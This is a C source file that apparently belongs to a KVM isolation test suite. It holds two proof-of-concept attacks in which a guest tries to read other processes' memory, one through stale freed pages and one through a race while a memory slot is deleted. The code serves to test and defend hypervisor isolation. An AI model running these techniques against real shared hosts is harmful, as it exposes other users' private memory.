// SPDX-License-Identifier: MIT OR GPL-2.0-only
//
// Attacks of a process that has no rights but to /dev/kvm: its guest is to see what other processes have.

#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

GUEST(guest_sum);

static const uint64_t MARK = 0x5EC2E75EC2E7;

// A process gives memory back under its normal guest, and another process gets it. What the guest then finds in
// its own is not the other's.
static const char *stale(void)
{
    enum { PAGES_OF_GUEST = 256, SPRAYED = 32 << 20 };
    static struct machine machine;
    cpu_set_t all, one;
    uint64_t sum = 0;
    // A CPU keeps pages that were given back at hand, for itself.
    sched_getaffinity(0, sizeof all, &all);
    CPU_ZERO(&one);
    CPU_SET(sched_getcpu(), &one);
    sched_setaffinity(0, sizeof one, &one);
    make_small(&machine, 0, guest_sum, guest_sum_end, BASE + (1 << 20), PAGES_OF_GUEST);
    uint8_t *pages = machine.memory + (1 << 20);
    madvise(pages, PAGES_OF_GUEST * PAGE, MADV_NOHUGEPAGE);
    for (unsigned page = 0; page < PAGES_OF_GUEST; page++)
        *(volatile uint64_t *)(pages + page * PAGE) = 1;
    next_store(&machine, &sum);
    expect("the guest's sum", sum, PAGES_OF_GUEST);
    madvise(pages, PAGES_OF_GUEST * PAGE, MADV_DONTNEED);
    pid_t child = fork();
    if (!child) {
        uint8_t *area = mmap(NULL, SPRAYED, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        madvise(area, SPRAYED, MADV_NOHUGEPAGE);
        for (size_t at = 0; area != MAP_FAILED && at < SPRAYED; at += PAGE)
            *(volatile uint64_t *)(area + at) = MARK;
        raise(SIGSTOP);
        _exit(0);
    }
    waitpid(child, NULL, WUNTRACED);
    next_store(&machine, &sum);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    end_machine(&machine);
    sched_setaffinity(0, sizeof all, &all);
    return sum >= MARK ? "the guest reads what another process has" : NULL;
}

// A slot of many pages is deleted by a thread that gets a CPU only when nobody else wants it, and soon somebody
// does: so it takes a while. The slot's last pages are given back meanwhile, and are others' at once.
enum { MANY = 32768, LAST = 8 };
static const uint64_t SECOND = BASE + (1ul << 30);

static struct machine deleted;
static uint8_t *many, *others;
static volatile bool is_deleting, is_in_the_way, is_given_back;

static void set_second_slot(uint64_t size)
{
    struct kvm_userspace_memory_region region = {
        .slot = 1, .guest_phys_addr = SECOND, .memory_size = size, .userspace_addr = (uintptr_t)many,
    };
    if (call(deleted.vm, KVM_SET_USER_MEMORY_REGION, &region))
        die("the second slot");
}

static uint64_t sum_of(uint64_t first, uint64_t pages)
{
    uint64_t sum = 0;
    set_register(&deleted, 0, X(0), SECOND + first * PAGE);
    set_register(&deleted, 0, X(1), pages);
    set_register(&deleted, 0, PC, BASE);
    next_store(&deleted, &sum);
    return sum;
}

static void *delete_slowly(void *unused)
{
    struct sched_param none = { 0 };
    stay_on(0);
    if (sched_setscheduler(0, SCHED_IDLE, &none))
        die("SCHED_IDLE");
    is_deleting = true;
    set_second_slot(0);
    return NULL;
}

static void *be_in_the_way(void *unused)
{
    stay_on(0);
    while (!is_deleting)
        usleep(50);
    is_in_the_way = true;
    while (!is_given_back)
        ;
    return NULL;
}

// What the guest finds in pages that the process gives back, and has again for others, while their slot goes.
static uint64_t give_back(void)
{
    struct kvm_run *page = deleted.run[0];
    uint64_t found = 0;
    while (!is_in_the_way)
        ;
    madvise(many + (MANY - LAST) * PAGE, LAST * PAGE, MADV_DONTNEED);
    for (unsigned i = 0; i < 4 * LAST; i++)
        *(volatile uint64_t *)(others + i * PAGE) = MARK;
    // Where the slot is gone its read of memory is one of a device.
    if (!run(&deleted, 0) && page->exit_reason == KVM_EXIT_MMIO && page->mmio.is_write)
        memcpy(&found, page->mmio.data, 8);
    is_given_back = true;
    return found;
}

static uint8_t *small_pages(size_t size)
{
    uint8_t *pages = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (pages == MAP_FAILED || madvise(pages, size, MADV_NOHUGEPAGE))
        die("pages");
    return pages;
}

static uint64_t found_in_deleted_slot(void)
{
    pthread_t slow, other;
    make_small(&deleted, 0, guest_sum, guest_sum_end, 0, 0);
    many = small_pages(MANY * PAGE);
    others = small_pages(4 * LAST * PAGE);
    for (unsigned page = 0; page < MANY; page++)
        *(volatile uint64_t *)(many + page * PAGE) = 1;
    set_second_slot(MANY * PAGE);
    expect("the sum of all", sum_of(0, MANY), MANY);
    expect("the sum of the last", sum_of(MANY - LAST, LAST), LAST);
    is_deleting = is_in_the_way = is_given_back = false;
    stay_on(1);
    if (pthread_create(&other, NULL, be_in_the_way, NULL) || pthread_create(&slow, NULL, delete_slowly, NULL))
        die("pthread_create");
    uint64_t found = give_back();
    pthread_join(slow, NULL);
    pthread_join(other, NULL);
    stay_anywhere();
    end_machine(&deleted);
    munmap(many, MANY * PAGE);
    munmap(others, 4 * LAST * PAGE);
    return found;
}

static const char *deleted_slot(void)
{
    // It is a race: in about every other round the slot is gone too soon.
    for (unsigned round = 0; round < 6; round++)
        if (found_in_deleted_slot() >= MARK)
            return "the guest reads what the process has elsewhere";
    return NULL;
}

const struct attack process_attacks[] = { { "G06", stale }, { "G06b", deleted_slot }, { NULL, NULL } };
